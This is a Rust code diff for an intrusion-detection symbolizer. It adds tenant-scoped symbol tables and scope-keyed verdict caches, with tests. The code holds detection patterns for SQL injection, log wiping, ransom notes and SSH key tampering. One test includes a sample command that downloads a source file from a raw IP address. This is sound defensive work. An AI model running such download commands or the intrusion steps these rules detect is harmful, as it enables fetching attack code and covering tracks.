@@ -18,7 +18,7 @@ use telemetry::record::{
     ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord, SshRecord,
 };
 
-use simnet::intern::Sym;
+use simnet::intern::{Sym, SymScope};
 use simnet::rng::FxHashMap;
 
 use crate::alert::{Alert, Entity};
@@ -155,26 +155,46 @@ fn exec_rules() -> &'static [(&'static [&'static str], AlertKind)] {
 /// and the glob/string matching runs once per *distinct* value instead of
 /// once per record. Steady state, `symbolize_into` performs zero heap
 /// allocations.
+///
+/// Every symbolizer operates in one [`SymScope`]: incoming records' symbols
+/// are resolved against it and the interned config sets are minted into it,
+/// so a tenant pipeline built over a tenant scope never touches the global
+/// table. The verdict memos are keyed by `(scope id, sym)` — scope ids are
+/// never reused, so a `Sym` from an evicted-and-recreated tenant scope that
+/// happens to collide with an old id can never resurrect a stale verdict
+/// (see [`Symbolizer::set_scope`]).
 #[derive(Debug, Clone)]
 pub struct Symbolizer {
     cfg: SymbolizerConfig,
+    scope: SymScope,
     alerts_emitted: u64,
     /// Interned ghost-account set (from `cfg.ghost_accounts`).
     ghost_users: simnet::rng::FxHashSet<Sym>,
     /// Interned default-DB-account set (from `cfg.default_db_users`).
     default_db_users: simnet::rng::FxHashSet<Sym>,
-    /// Memoized first-match verdict of [`exec_rules`] per command line.
-    exec_memo: FxHashMap<Sym, Option<AlertKind>>,
-    /// Memoized [`AlertKind::from_symbol`] per custom notice symbol.
-    notice_memo: FxHashMap<Sym, Option<AlertKind>>,
+    /// Memoized first-match verdict of [`exec_rules`] per command line,
+    /// keyed by the minting scope.
+    exec_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
+    /// Memoized [`AlertKind::from_symbol`] per custom notice symbol,
+    /// keyed by the minting scope.
+    notice_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
 }
 
 impl Symbolizer {
+    /// A symbolizer over the global scope.
     pub fn new(cfg: SymbolizerConfig) -> Self {
-        let ghost_users = cfg.ghost_accounts.iter().map(Sym::from).collect();
-        let default_db_users = cfg.default_db_users.iter().map(Sym::from).collect();
+        Self::new_in(cfg, SymScope::global())
+    }
+
+    /// A symbolizer over an explicit scope — what a tenant pipeline uses
+    /// so its records, config sets and alerts all live in the tenant's
+    /// symbol universe.
+    pub fn new_in(cfg: SymbolizerConfig, scope: SymScope) -> Self {
+        let ghost_users = cfg.ghost_accounts.iter().map(|s| scope.sym(s)).collect();
+        let default_db_users = cfg.default_db_users.iter().map(|s| scope.sym(s)).collect();
         Symbolizer {
             cfg,
+            scope,
             alerts_emitted: 0,
             ghost_users,
             default_db_users,
@@ -191,6 +211,33 @@ impl Symbolizer {
         &self.cfg
     }
 
+    /// The scope this symbolizer resolves records against.
+    pub fn scope(&self) -> &SymScope {
+        &self.scope
+    }
+
+    /// Re-point the symbolizer at a different scope (e.g. a tenant slot
+    /// that was evicted and recreated), re-interning the config sets
+    /// there. Memoized verdicts for the old scope stay in the map but are
+    /// unreachable by construction: memo keys carry the scope id and
+    /// scope ids are never reused, so a recycled 32-bit `Sym` id from the
+    /// new scope cannot alias an old verdict.
+    pub fn set_scope(&mut self, scope: SymScope) {
+        self.ghost_users = self
+            .cfg
+            .ghost_accounts
+            .iter()
+            .map(|s| scope.sym(s))
+            .collect();
+        self.default_db_users = self
+            .cfg
+            .default_db_users
+            .iter()
+            .map(|s| scope.sym(s))
+            .collect();
+        self.scope = scope;
+    }
+
     pub fn alerts_emitted(&self) -> u64 {
         self.alerts_emitted
     }
@@ -199,7 +246,7 @@ impl Symbolizer {
     /// (`cfg.sanitize`) — the §II-A scrubbing the eager-string pipeline
     /// applied at emission time now happens here, at surfacing time.
     pub fn render_message(&self, msg: &MessageSpec) -> String {
-        msg.render_with(&self.cfg.sanitize)
+        msg.render_with_in(&self.cfg.sanitize, &self.scope)
     }
 
     fn is_internal(&self, addr: Ipv4Addr) -> bool {
@@ -338,7 +385,8 @@ impl Symbolizer {
             uri: h.uri,
             status: h.status,
         };
-        if matches_any(&self.cfg.malware_uri_patterns, &h.uri) {
+        let uri = self.scope.resolve(h.uri);
+        if matches_any(&self.cfg.malware_uri_patterns, uri) {
             out.push(
                 Alert::new(h.ts, AlertKind::KnownMalwareDownload, entity)
                     .with_src(h.orig_h)
@@ -347,11 +395,9 @@ impl Symbolizer {
             );
             return;
         }
-        let source_ext = [".c", ".sh", ".pl", ".py"]
-            .iter()
-            .any(|e| h.uri.ends_with(e));
+        let source_ext = [".c", ".sh", ".pl", ".py"].iter().any(|e| uri.ends_with(e));
         let binary_mime = matches!(
-            h.mime.as_str(),
+            self.scope.resolve(h.mime),
             "application/x-executable" | "application/x-elf"
         );
         if source_ext && h.status == 200 {
@@ -370,8 +416,8 @@ impl Symbolizer {
                     .with_message(line),
             );
         }
-        if crate::pattern::glob_match("*' OR *", &h.uri)
-            || crate::pattern::glob_match("*UNION SELECT*", &h.uri)
+        if crate::pattern::glob_match("*' OR *", uri)
+            || crate::pattern::glob_match("*UNION SELECT*", uri)
         {
             out.push(
                 Alert::new(h.ts, AlertKind::SqlInjectionProbe, entity)
@@ -380,7 +426,7 @@ impl Symbolizer {
                     .with_message(line),
             );
         }
-        if crate::pattern::glob_match("*.action*", &h.uri) {
+        if crate::pattern::glob_match("*.action*", uri) {
             // Apache Struts portal scan (Insight 3's example).
             out.push(
                 Alert::new(h.ts, AlertKind::VulnScan, entity)
@@ -389,7 +435,7 @@ impl Symbolizer {
                     .with_message(line),
             );
         }
-        if self.is_internal(h.orig_h) && !self.is_internal(h.resp_h) && contains_pii(&h.uri) {
+        if self.is_internal(h.orig_h) && !self.is_internal(h.resp_h) && contains_pii(uri) {
             // Critical: personally identifiable information leaving in an
             // outgoing HTTP request (Insight 4's example).
             out.push(
@@ -461,10 +507,13 @@ impl Symbolizer {
             NoticeKind::PortScan => Some(AlertKind::PortScan),
             NoticeKind::PasswordGuessing => Some(AlertKind::BruteForcePassword),
             NoticeKind::ExecutableFromRawIp => Some(AlertKind::DownloadSensitive),
-            NoticeKind::Custom(sym) => *self
-                .notice_memo
-                .entry(*sym)
-                .or_insert_with(|| AlertKind::from_symbol(sym.as_str())),
+            NoticeKind::Custom(sym) => {
+                let scope = &self.scope;
+                *self
+                    .notice_memo
+                    .entry((scope.scope_id(), *sym))
+                    .or_insert_with(|| AlertKind::from_symbol(scope.resolve(*sym)))
+            }
         };
         if let Some(kind) = kind {
             let mut a = Alert::new(n.ts, kind, entity)
@@ -479,18 +528,22 @@ impl Symbolizer {
 
     fn on_process(&mut self, p: &ProcessRecord, out: &mut Vec<Alert>) {
         // The verdict depends only on the command line, so the ordered
-        // glob scan runs once per distinct `cmdline` symbol.
-        let kind = *self.exec_memo.entry(p.cmdline).or_insert_with(|| {
-            let cmdline = p.cmdline.as_str();
-            exec_rules()
-                .iter()
-                .find(|(patterns, _)| {
-                    patterns
-                        .iter()
-                        .any(|pat| crate::pattern::glob_match(pat, cmdline))
-                })
-                .map(|(_, kind)| *kind)
-        });
+        // glob scan runs once per distinct `cmdline` symbol per scope.
+        let scope = &self.scope;
+        let kind = *self
+            .exec_memo
+            .entry((scope.scope_id(), p.cmdline))
+            .or_insert_with(|| {
+                let cmdline = scope.resolve(p.cmdline);
+                exec_rules()
+                    .iter()
+                    .find(|(patterns, _)| {
+                        patterns
+                            .iter()
+                            .any(|pat| crate::pattern::glob_match(pat, cmdline))
+                    })
+                    .map(|(_, kind)| *kind)
+            });
         if let Some(kind) = kind {
             out.push(
                 Alert::new(p.ts, kind, Entity::User(p.user))
@@ -514,15 +567,16 @@ impl Symbolizer {
             );
         };
         let verb = |verb, path| MessageSpec::FileOp { verb, path };
+        let path = self.scope.resolve(f.path);
         let deleting = matches!(f.op, FileOp::Delete | FileOp::Truncate);
         if deleting
-            && (crate::pattern::glob_match("/var/log/*", &f.path)
-                || crate::pattern::glob_match("/var/spool/mail/*", &f.path))
+            && (crate::pattern::glob_match("/var/log/*", path)
+                || crate::pattern::glob_match("/var/spool/mail/*", path))
         {
             push(out, AlertKind::LogWipe, verb("wipe", f.path));
-        } else if deleting && f.path.ends_with(".bash_history") {
+        } else if deleting && path.ends_with(".bash_history") {
             push(out, AlertKind::HistoryCleared, verb("clear", f.path));
-        } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", &f.path) {
+        } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", path) {
             push(
                 out,
                 AlertKind::FileDropTmp,
@@ -532,7 +586,7 @@ impl Symbolizer {
                 },
             );
         } else if matches!(f.op, FileOp::Create | FileOp::Modify)
-            && f.path.ends_with(".ssh/authorized_keys")
+            && path.ends_with(".ssh/authorized_keys")
         {
             push(
                 out,
@@ -540,13 +594,13 @@ impl Symbolizer {
                 verb("modify", f.path),
             );
         } else if f.op == FileOp::Create
-            && (crate::pattern::glob_match("*RANSOM*", &f.path)
-                || crate::pattern::glob_match("*ransom*", &f.path))
+            && (crate::pattern::glob_match("*RANSOM*", path)
+                || crate::pattern::glob_match("*ransom*", path))
         {
             push(out, AlertKind::RansomNoteDropped, verb("note", f.path));
-        } else if f.op == FileOp::Create && f.path.ends_with(".encrypted") {
+        } else if f.op == FileOp::Create && path.ends_with(".encrypted") {
             push(out, AlertKind::MassFileEncryption, verb("encrypt", f.path));
-        } else if crate::pattern::glob_match("/etc/cron*", &f.path) {
+        } else if crate::pattern::glob_match("/etc/cron*", path) {
             push(out, AlertKind::CronEntryAdded, verb("cron", f.path));
         }
     }
@@ -609,8 +663,9 @@ impl Symbolizer {
                 );
             }
             DbCommandKind::Query => {
-                if crate::pattern::glob_match("*' OR *", &d.statement)
-                    || crate::pattern::glob_match("*UNION SELECT*", &d.statement)
+                let statement = self.scope.resolve(d.statement);
+                if crate::pattern::glob_match("*' OR *", statement)
+                    || crate::pattern::glob_match("*UNION SELECT*", statement)
                 {
                     push(AlertKind::SqlInjectionProbe, MessageSpec::Text(d.statement));
                 }
@@ -619,7 +674,13 @@ impl Symbolizer {
     }
 
     fn on_audit(&self, a: &telemetry::record::AuditRecord, out: &mut Vec<Alert>) {
-        if a.syscall == "setuid" && a.args.contains('0') && a.exit_code == 0 && a.user != "root" {
+        let syscall = self.scope.resolve(a.syscall);
+        let args = self.scope.resolve(a.args);
+        if syscall == "setuid"
+            && args.contains('0')
+            && a.exit_code == 0
+            && self.scope.resolve(a.user) != "root"
+        {
             out.push(
                 Alert::new(a.ts, AlertKind::PrivilegeEscalation, Entity::User(a.user))
                     .with_host(a.host)
@@ -628,7 +689,7 @@ impl Symbolizer {
                         user: a.user,
                     }),
             );
-        } else if a.syscall == "ptrace" && a.args.contains("osquery") {
+        } else if syscall == "ptrace" && args.contains("osquery") {
             out.push(
                 Alert::new(a.ts, AlertKind::MonitorTampering, Entity::User(a.user))
                     .with_host(a.host)
@@ -1003,6 +1064,91 @@ mod tests {
         // policy (mask_ips = false) keeps the raw address.
         assert!(alerts[0].message.render().contains("141.142.xxx.yyy"));
         assert!(s.render_message(&alerts[0].message).contains("141.142.2.1"));
+    }
+
+    #[test]
+    fn scope_keyed_memo_survives_evict_and_reintern() {
+        use simnet::intern::{TenantId, TenantSymbols};
+        use simnet::time::SimTime;
+        use simnet::topology::HostId;
+
+        let proc_in = |scope: &simnet::intern::SymScope, cmdline: &str| {
+            LogRecord::Process(ProcessRecord {
+                ts: SimTime::from_secs(1),
+                host: HostId(0),
+                hostname: scope.sym("cn01"),
+                user: scope.sym("eve"),
+                pid: 1,
+                ppid: 0,
+                exe: scope.sym("/bin/sh"),
+                cmdline: scope.sym(cmdline),
+            })
+        };
+
+        let reg = TenantSymbols::new();
+        let tenant = TenantId(3);
+        let scope_a = reg.scope(tenant);
+        // In scope A, the malicious cmdline is the first user string
+        // interned — it gets the lowest free id.
+        let malicious = "wget http://64.215.4.5/abs.c";
+        let mal_sym = scope_a.sym(malicious);
+        let mut s = Symbolizer::new_in(SymbolizerConfig::default(), scope_a.clone());
+        let alerts = s.symbolize(&proc_in(&scope_a, malicious));
+        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
+
+        // Evict the tenant and recreate its slot. In the successor scope,
+        // intern a *benign* cmdline first so it lands on the same 32-bit
+        // id the malicious one had in scope A.
+        drop(scope_a);
+        assert!(reg.evict(tenant));
+        let scope_b = reg.scope(tenant);
+        let benign_sym = scope_b.sym("ls -la");
+        assert_eq!(
+            benign_sym.id(),
+            mal_sym.id(),
+            "test needs the id to be recycled"
+        );
+        s.set_scope(scope_b.clone());
+        // Without scope-keyed memos this would hit the stale
+        // DownloadSensitive verdict cached for the old scope's id.
+        let alerts = s.symbolize(&proc_in(&scope_b, "ls -la"));
+        assert!(alerts.is_empty(), "stale verdict resurrected: {alerts:?}");
+        // And re-interning the same malicious cmdline in the new scope
+        // still gets the correct verdict (recomputed, not resurrected).
+        let alerts = s.symbolize(&proc_in(&scope_b, malicious));
+        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
+    }
+
+    #[test]
+    fn tenant_scoped_symbolizer_isolates_custom_notices() {
+        use simnet::intern::SymScope;
+        // The same NoticeKind::Custom id means different symbols in
+        // different scopes; scope-keyed memos must not cross-talk.
+        let scope_a = SymScope::fresh();
+        let scope_b = SymScope::fresh();
+        let a_sym = scope_a.sym("alert_lateral_movement");
+        let b_sym = scope_b.sym("note_informational_only");
+        assert_eq!(a_sym.id(), b_sym.id());
+        let notice = |sym| {
+            LogRecord::Notice(NoticeRecord {
+                ts: SimTime::from_secs(1),
+                note: NoticeKind::Custom(sym),
+                msg: Sym::EMPTY,
+                src: "141.142.77.5".parse().unwrap(),
+                dst: None,
+                sub: Sym::EMPTY,
+            })
+        };
+        let mut s_a = Symbolizer::new_in(SymbolizerConfig::default(), scope_a);
+        let mut s_b = Symbolizer::new_in(SymbolizerConfig::default(), scope_b);
+        assert_eq!(
+            s_a.symbolize(&notice(a_sym))[0].kind,
+            AlertKind::LateralMovementAttempt
+        );
+        assert!(
+            s_b.symbolize(&notice(b_sym)).is_empty(),
+            "verdict leaked across scopes"
+        );
     }
 
     #[test]
